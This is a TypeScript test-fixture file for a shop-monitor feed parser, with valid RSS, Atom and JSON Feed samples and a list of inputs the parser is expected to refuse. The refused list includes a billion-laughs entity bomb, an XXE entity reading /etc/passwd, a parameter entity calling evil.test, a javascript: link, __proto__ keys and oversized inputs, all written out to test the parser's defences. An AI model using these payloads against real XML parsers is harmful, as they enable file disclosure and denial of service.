import type { ReceivedFeed } from '#tools/shop-monitor/server/sources/parse/feed.ts';

const url = 'https://example.com/shop/feed';
/** A feed as it was received. */
export const feed = (text: string | Uint8Array): ReceivedFeed => ({
  bytes: typeof text === 'string' ? Buffer.from(text) : text,
  contentType: '',
  url,
});
export const rss = (items: string, attributes = '') =>
  `<?xml version="1.0"?><rss version="2.0" ${attributes}><channel><title>Shop</title>${items}` +
  `</channel></rss>`;
const atom = (entries: string) =>
  `<feed xmlns="http://www.w3.org/2005/Atom"><title>Shop</title>${entries}</feed>`;
const json = (items: unknown) =>
  JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', title: 'Shop', items });
const item = (inner: string) =>
  rss(
    `<item><guid>a1</guid><title>Fox</title><link>https://example.com/fox</link>${inner}</item>`,
    'xmlns:media="http://search.yahoo.com/mrss/" xmlns:g="http://base.google.com/ns/1.0"' +
      ' xmlns:content="http://purl.org/rss/1.0/modules/content/"',
  );
const fox = { id: 'a1', url: 'https://example.com/fox', title: 'Fox', imageUrl: undefined, price: undefined };
/** Feeds with the first work that each has. */
export const goodFeeds: readonly (readonly [string, ReceivedFeed, object])[] = [
  ['RSS', feed(item('')), fox],
  [
    'an enclosure',
    feed(item('<enclosure url="/fox.png" type="image/png" length="1"/>')),
    { ...fox, imageUrl: 'https://example.com/fox.png' },
  ],
  ['an enclosure that is no picture', feed(item('<enclosure url="/fox.mp3" type="audio/mpeg"/>')), fox],
  [
    'media:content',
    feed(item('<media:content url="https://cdn.test/f.jpg" medium="image"/>')),
    { ...fox, imageUrl: 'https://cdn.test/f.jpg' },
  ],
  [
    'media in a group',
    feed(item('<media:group><media:thumbnail url="https://cdn.test/t.jpg"/></media:group>')),
    { ...fox, imageUrl: 'https://cdn.test/t.jpg' },
  ],
  [
    'an image element',
    feed(item('<image>https://cdn.test/i.jpg</image>')),
    { ...fox, imageUrl: 'https://cdn.test/i.jpg' },
  ],
  [
    'the first picture of the content',
    feed(
      item(
        '<content:encoded><![CDATA[<p><img alt="x" src="https://cdn.test/c.jpg?a=1&amp;b=2"><img' +
          ' src="/2.jpg"></p>]]></content:encoded>',
      ),
    ),
    { ...fox, imageUrl: 'https://cdn.test/c.jpg?a=1&b=2' },
  ],
  [
    'an escaped description',
    feed(item('<description>&lt;img src="https://cdn.test/d.jpg"&gt;</description>')),
    { ...fox, imageUrl: 'https://cdn.test/d.jpg' },
  ],
  ['a price', feed(item('<g:price>12.50 USD</g:price>')), { ...fox, price: '12.50 USD' }],
  ['a price with a comma', feed(item('<g:price>EUR 7,5</g:price>')), { ...fox, price: '7.50 EUR' }],
  [
    'another prefix',
    feed(
      rss(
        '<item><guid>a1</guid><title>Fox</title><link>/fox</link><m:thumbnail url="/t.png"/></item>',
        'xmlns:m="http://search.yahoo.com/mrss/"',
      ),
    ),
    { ...fox, imageUrl: 'https://example.com/t.png' },
  ],
  [
    'no guid',
    feed(rss('<item><link>https://example.com/fox</link></item>')),
    { url: 'https://example.com/fox', id: 'OWHzhBO3crrNLc-Q9-r73xL7Iy5cW2jZ2De2GmZIHJM' },
  ],
  [
    'a guid that is an address',
    feed(rss('<item><guid>https://example.com/p/9</guid><title>Nine</title></item>')),
    { url: 'https://example.com/p/9', id: 'PIvmqyJniC-lJzrhfhPcCNFTYPknDizknTQjwzAUnBs' },
  ],
  [
    'a script for a link',
    feed(rss('<item><guid>a1</guid><link>javascript:alert(1)</link></item>')),
    { id: 'a1', url: undefined },
  ],
  [
    'a title in CDATA',
    feed(rss('<item><guid>a1</guid><title><![CDATA[Tom & <b>Jerry</b>]]></title></item>')),
    { title: 'Tom & Jerry' },
  ],
  ['a byte-order mark', feed(`\uFEFF${item('')}`), fox],
  ['UTF-16', feed(Buffer.from(`\uFEFF${item('')}`, 'utf16le')), fox],
  [
    'Latin 1, declared',
    feed(
      Buffer.from(
        '<?xml version="1.0" encoding="ISO-8859-1"?><rss><channel><item><guid>1</guid>' +
          '<title>Caf\u00e9</title></item></channel></rss>',
        'latin1',
      ),
    ),
    { title: 'Caf\u00e9' },
  ],
  [
    'Latin 1 that says it is UTF-8',
    feed(Buffer.from(rss('<item><guid>1</guid><title>Caf\u00e9</title></item>'), 'latin1')),
    { title: 'Caf\u00e9' },
  ],
  [
    'Atom',
    feed(
      atom(
        '<entry><id>tag:example.com,2026:1</id><title type="html">A &lt;i&gt;Fox&lt;/i&gt;' +
          '</title><link rel="enclosure" type="image/jpeg" href="/f.jpg"/><link href="/fox"/></entry>',
      ),
    ),
    { title: 'A Fox', url: 'https://example.com/fox', imageUrl: 'https://example.com/f.jpg' },
  ],
  [
    'Atom with a prefix',
    feed(
      '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:id>1</a:id><a:title>Fox' +
        '</a:title></a:entry></a:feed>',
    ),
    { id: '1', title: 'Fox' },
  ],
  [
    'RSS 1.0',
    feed(
      '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"' +
        ' xmlns="http://purl.org/rss/1.0/"><item rdf:about="x"><title>Fox</title>' +
        '<link>https://example.com/fox</link></item></rdf:RDF>',
    ),
    { title: 'Fox' },
  ],
  [
    'JSON Feed',
    feed(json([{ id: 7, title: 'Fox', url: '/fox', image: '/f.png' }])),
    {
      id: '7',
      title: 'Fox',
      url: 'https://example.com/fox',
      imageUrl: 'https://example.com/f.png',
      price: undefined,
    },
  ],
  [
    'JSON Feed with an attachment',
    feed(json([{ id: 'a', attachments: [{ mime_type: 'image/png', url: '/f.png' }] }])),
    { id: 'a', imageUrl: 'https://example.com/f.png' },
  ],
];

const lol = (_value: unknown, index: number) =>
  `<!ENTITY lol${index + 1} "${`&lol${index || ''};`.repeat(10)}">`;
const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, lol).join('')}]>`;
/** Feeds that are refused, and why. */
export const badFeeds: readonly (readonly [string, () => ReceivedFeed, RegExp])[] = [
  ['a billion laughs', () => feed(laughs + rss('<item><guid>&lol9;</guid></item>')), /entities/],
  [
    'an external entity',
    () =>
      feed(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${rss('<item><guid>&x;</guid></item>')}`),
    /entities/,
  ],
  [
    'a parameter entity',
    () => feed(`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]>${rss('')}`),
    /entities/,
  ],
  ['deep nesting', () => feed(rss('<a>'.repeat(10_000) + '</a>'.repeat(10_000))), /open elements/],
  ['a million elements', () => feed(rss('<a></a>'.repeat(1_000_000))), /tags/],
  [
    'a long attribute',
    () => feed(item(`<enclosure type="image/png" url="https://e.test/${'a'.repeat(4_000_000)}"/>`)),
    /attribute/,
  ],
  ['100 MB in an attribute', () => feed(Buffer.alloc(100_000_000, 'a')), /8 MB/],
  ['an end in the middle', () => feed(item('').slice(0, -20)), /ends early/],
  ['JSON that ends early', () => feed(json([{ id: 1 }]).slice(0, -5)), /broken/],
  ['deep JSON', () => feed(`{"items":${'['.repeat(1_000_000)}`), /broken|not a JSON Feed/],
  ['other JSON', () => feed('{"products":[]}'), /not a JSON Feed/],
  ['an unknown encoding', () => feed('<?xml version="1.0" encoding="x-none"?><rss></rss>'), /encoding/],
  ['a web page', () => feed('<!doctype html><html><body></body></html>'), /web page/],
  ['other XML', () => feed('<urlset></urlset>'), /neither/],
  ['text', () => feed('hello'), /neither/],
  ['nothing', () => feed(''), /neither/],
  ['items without identity', () => feed(rss('<item><title>Fox</title></item>')), /id or a link/],
  ['bytes', () => feed(Buffer.from([0, 1, 2, 255])), /neither/],
];

const product = (id: number, more: object = {}) => ({
  id,
  title: `Fox ${id}`,
  handle: `fox-${id}`,
  variants: [{ price: '12.00' }],
  images: [{ src: `https://cdn.test/${id}.jpg` }],
  ...more,
});
const products = (list: unknown) => JSON.stringify({ products: list });
const many = (count: number, more?: object) =>
  products(Array.from({ length: count }, (_value, index) => product(index + 1, more)));

/** Pages of `/products.json`, with the kind of page that each is. */
export const shopifyDocuments: readonly (readonly [string, () => string, string])[] = [
  ['one product', () => many(1), 'works'],
  ['a full page', () => many(250), 'works'],
  ['a full page with descriptions of 20 KB', () => many(250, { body_html: '<p>'.repeat(6_700) }), 'works'],
  ['a page of 10,000 products', () => many(10_000), 'works'],
  ['one product 10,000 times', () => products(Array.from({ length: 10_000 }, () => product(1))), 'works'],
  ['30,000 pictures of one product', () => products([product(1, { images: images(30_000) })]), 'works'],
  ['a title of 7 MB', () => products([product(1, { title: 'a'.repeat(7_000_000) })]), 'works'],
  [
    'a title of control characters and halves',
    () => products([product(1, { title: '\0\ud800\u202e' })]),
    'works',
  ],
  ['no products', () => products([]), 'empty'],
  ['a web page', () => '<html>', 'layout_changed'],
  ['a list of something else', () => products([1, null, 'x', { id: '../../x' }]), 'layout_changed'],
  ['an end in the middle', () => '{"products":[{"id":1}', 'layout_changed'],
  ['other types', () => '{"products":{"id":1}}', 'layout_changed'],
  ['a list', () => '[]', 'layout_changed'],
  ['nothing', () => '', 'layout_changed'],
  ['a million open brackets', () => `{"products":${'['.repeat(1_000_000)}`, 'layout_changed'],
  ['arrays in each other, closed', () => products(nested(3_000)), 'layout_changed'],
  ['2 million empty objects', () => `{"products":[${'{},'.repeat(2_000_000)}{}]}`, 'layout_changed'],
  ['a million keys', () => `{${keys(700_000)}"products":[]}`, 'empty'],
  ['numbers without end', () => `{"products":[{"id":${'9'.repeat(7_000_000)}}]}`, 'layout_changed'],
  ['__proto__ as a key', () => '{"__proto__":{"products":[{"id":1}]}}', 'layout_changed'],
];

const images = (count: number) =>
  Array.from({ length: count }, (_value, index) => ({ src: `//cdn.test/${index}` }));
const keys = (count: number) => Array.from({ length: count }, (_value, index) => `"k${index}":1,`).join('');
const nested = (depth: number): unknown => JSON.parse('['.repeat(depth) + ']'.repeat(depth));
